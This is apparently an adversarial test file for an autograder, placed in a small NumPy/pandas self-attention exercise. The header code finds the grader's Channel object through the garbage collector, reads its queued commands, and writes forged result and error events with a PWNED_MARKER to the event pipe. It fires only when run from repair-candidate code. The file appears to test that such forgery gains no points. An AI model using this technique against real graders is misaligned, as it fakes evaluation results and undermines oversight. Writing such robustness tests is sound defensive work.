"""Attack 03 — promises 1 and 5 (no points from forged events; feedback never shows child text).
As a candidate, reads the commands sent ahead and, for every later call id, writes forged
"returned"/"raised" events straight to the event pipe (os.write on the Channel's fd) before the
grader asks: values that are right (computed here as Q @ K.T) for some ids, and error events whose
type and message hold the marker PWNED_MARKER for others, plus a forged event for the current id.
The search should only name one of the grader's own edits, never show PWNED_MARKER, never change points.
"""
import sys as _sys, os as _os, gc as _gc, json as _json, time as _time

def _channel():
    w = _sys.modules.get("autograder.core.child.worker")
    for o in _gc.get_objects():
        if type(o).__name__ == "Channel" and hasattr(o, "_commands"):
            return o
    return None

def _in_candidate():
    f = _sys._getframe(1)
    while f is not None:
        if f.f_code.co_filename == "<repair>":
            return True
        f = f.f_back
    return False

def _spy_send(**data):
    ch = _channel()
    if ch is not None:
        ch.send(ev="spy", pid=_os.getpid(), **data)

def _forge(Q, K):
    from autograder.core.child import codec
    ch = _channel()
    fd = ch._commands.fileno()
    _os.set_blocking(fd, False)
    got = []
    try:
        while True:
            line = ch._readline()
            if not line:
                break
            got.append(_json.loads(line))
    finally:
        _os.set_blocking(fd, True)
    for k, d in enumerate(got):
        args = [codec.decode(a) for a in d["args"]]
        if k % 2 == 0:
            ev = {"ev": "returned", "id": d["id"], "value": codec.encode(args[0] @ args[1].T), "args_after": [None, None]}
        else:
            ev = {"ev": "raised", "id": d["id"], "type": "PWNED_MARKER_TYPE", "message": "PWNED_MARKER " * 20,
                  "frames": [["<repair>", 1, "PWNED_MARKER", "PWNED_MARKER"]]}
        _os.write(ch._event_fd, (_json.dumps(ev) + "\n").encode())
    # the child will now wait for commands it ate: put them back so the run continues
    stash = [_json.dumps(d) + "\n" for d in got]
    orig = ch._readline
    ch._readline = lambda: stash.pop(0) if stash else orig()

import numpy as np
import pandas as pd


def make_qkv(X, W_Q, W_K, W_V):
    """Project the word vectors X (n, d_model) into queries, keys and values."""
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _in_candidate():
        _forge(Q, K)
    return K @ Q.T


def softmax(x):
    """Softmax over the last axis; the row maximum is subtracted so exp never overflows."""
    x = np.asarray(x, dtype=float)
    shifted = np.exp(x - x.max(axis=-1, keepdims=True))
    return shifted / shifted.sum(axis=-1, keepdims=True)


def mix(weights, V):
    """Blend the value vectors row by row with the attention weights."""
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    """softmax(Q Kᵀ / √d_k) V; returns (output, weights)."""
    Q, K, V = make_qkv(X, W_Q, W_K, W_V)
    d_k = K.shape[1]
    weights = softmax(scores(Q, K) / np.sqrt(d_k))
    return mix(weights, V), weights


def most_attended(weights, words):
    """Map each word to the word its row gives the largest weight."""
    table = pd.DataFrame(weights, index=words, columns=words)
    return table.idxmax(axis=1).to_dict()
